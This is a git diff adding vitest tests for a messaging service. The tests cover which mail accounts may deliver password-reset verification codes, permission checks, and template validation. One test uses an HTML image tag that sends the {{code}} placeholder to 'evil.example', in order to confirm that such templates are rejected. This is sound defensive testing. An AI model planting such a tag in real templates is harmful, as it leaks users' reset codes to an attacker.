@@ -1,9 +1,12 @@
 /** Accounts at providers: secrets go in and never out, messages go through the default one, and errors hold it back. */
 import type { AccountKind, ChannelAccountDetail } from '@countersign/sdk/api/contract';
-import { afterAll, afterEach, beforeAll, beforeEach, expect, it, vi } from 'vitest';
+import { sql } from 'kysely';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { accountAt, startMailServer } from '../../channels/mail/testing/smtp.ts';
+import { fakeChannel } from '../../channels/testing/fake-channel.ts';
 import { withTenant } from '../../db/access.ts';
 import { COMPANY } from '../../demo/company.ts';
+import { elsewhere, type Reply } from '../../testing/client.ts';
 import { describeBothDatabases } from '../../testing/harness.ts';
 import { ACCOUNTS, SECRETS, startProviders } from '../../testing/providers.ts';
 import { readNetworks } from '../call/addresses.ts';
@@ -12,6 +15,7 @@ import { tokensOf } from './tokens.ts';
 
 const providers = await startProviders();
 const smtp = await startMailServer();
+const operatorMail = fakeChannel('email');
 afterAll(async () => {
   await providers.stop();
   await smtp.stop();
@@ -172,6 +176,95 @@ describeBothDatabases(
       smtp.mails.length = 0;
     });
 
+    describe('and verification codes', () => {
+      const limited = (path: string, body: object) => driver.post('li.na', `message/account/${path}`, body);
+      const codesTo = async (account: string, inbox: { length: number }) => {
+        smtp.mails.length = 0;
+        operatorMail.sent.length = 0;
+        const asked = { purpose: 'reset', channel: 'email', account };
+        const path = '/digital-portal/signIn/sendCode';
+        await server().anonymous().send('POST', path, JSON.stringify(asked), elsewhere());
+        await vi.waitFor(() => expect(inbox).toHaveLength(1), eventually);
+        return [smtp.mails.length, operatorMail.sent.length];
+      };
+      const mailAccount = { kind: 'mail', name: '邮件', ...accountAt(smtp), isDefault: true };
+      const fieldOf = ({ status, body }: Reply) => [
+        status,
+        (body.data as { fields?: { field: string }[] } | null)?.fields?.[0]?.field,
+      ];
+
+      beforeAll(async () => {
+        const { body } = await driver.post('admin', 'role/add', {
+          roleName: '消息',
+          roleKey: 'messages',
+          permissions: ['message:account:manage', 'message:template:manage'],
+        });
+        const { roleId } = body.data as { roleId: string };
+        await driver.post('admin', 'role/addUsers', { roleId, userIds: ['u-li-na'] });
+      });
+
+      it('go round an account whose author could not reset the password of the receiver', async () => {
+        const { data } = (await limited('add', mailAccount)).body;
+        const { accountId } = data as { accountId: string };
+        expect(await codesTo('zhang.wei', operatorMail.sent)).toEqual([0, 1]);
+        const release = { carriesCodes: true };
+        expect(fieldOf(await limited('update', { accountId, ...release }))).toEqual([400, 'carriesCodes']);
+        expect(fieldOf(await limited('add', { ...mailAccount, ...release }))).toEqual([400, 'carriesCodes']);
+        const { config } = mailAccount;
+        const changed = { ...config, senderName: '华兴制造' };
+        expect((await post('update', { accountId, ...release })).status).toBe(200);
+        expect(await codesTo('admin', smtp.mails)).toEqual([1, 0]);
+        expect((await limited('update', { accountId, name: '公司邮件', ...release })).status).toBe(200);
+        expect((await detail(accountId)).carriesCodes).toBe(true);
+        const moved = { accountId, config: changed };
+        expect(fieldOf(await limited('update', { ...moved, ...release }))).toEqual([400, 'carriesCodes']);
+        expect((await limited('update', moved)).status).toBe(200);
+        expect((await detail(accountId)).carriesCodes).toBe(false);
+        expect(await codesTo('zhang.wei', operatorMail.sent)).toEqual([0, 1]);
+      });
+
+      it('stay with the operator after a change of a secret, and for other kinds of accounts', async () => {
+        const accountId = await add({ ...mailAccount, carriesCodes: true });
+        const secrets = { password: 'another' };
+        expect((await post('update', { accountId, secrets })).status).toBe(200);
+        expect((await detail(accountId)).carriesCodes).toBe(false);
+        const robot = {
+          kind: 'dingtalk-robot',
+          name: 'robot',
+          ...ACCOUNTS['dingtalk-robot'],
+          carriesCodes: true,
+        };
+        expect((await post<{ fields: object[] }>('add', robot)).data.fields).toMatchObject([
+          { field: 'carriesCodes' },
+        ]);
+      });
+
+      it('have no stored text with a picture, a link or an address', async () => {
+        const html = '<p>{{code}}</p><img src="https://evil.example/p?c={{code}}">';
+        const texts = { name: '码', kind: 'code', title: '验证码', text: '你的验证码：{{code}}。' };
+        const template = (more: object) => driver.post('li.na', 'temp/letter/add', { ...texts, ...more });
+        expect(fieldOf(await template({ html }))).toEqual([400, 'html']);
+        const { data } = (await template({})).body;
+        await codesTo('zhang.wei', operatorMail.sent);
+        expect(operatorMail.sent[0]?.text).toMatch(/^你的验证码：\d{6}。$/);
+        await inTenant(tx =>
+          tx
+            .updateTable('message_template')
+            .set({ content: sql`content || ${JSON.stringify({ html })}::jsonb` })
+            .where('kind', '=', 'code')
+            .execute(),
+        );
+        await codesTo('admin', operatorMail.sent);
+        expect(operatorMail.sent[0]).toMatchObject({
+          html: '',
+          text: expect.stringContaining('5 分钟内有效'),
+        });
+        const { templateId } = data as { templateId: string };
+        const status = { templateId, status: 'NORMAL' };
+        expect(fieldOf(await driver.post('li.na', 'temp/letter/status', status))).toEqual([400, 'html']);
+      });
+    });
+
     it('carry notices; an error of the account holds it back, is told once, and its messages go out behind the change', async () => {
       const accountId = await add(SMS);
       providers.faults.push('account');
@@ -212,6 +305,8 @@ describeBothDatabases(
   {
     server: {
       jobs: { pollMs: 50, noticeRetrySeconds: [0] },
+      channels: [operatorMail],
+      trustProxy: '127.0.0.1',
       channelEndpoints: providers.endpoints,
       outgoing: { networks: readNetworks('127.0.0.1/32')! },
     },
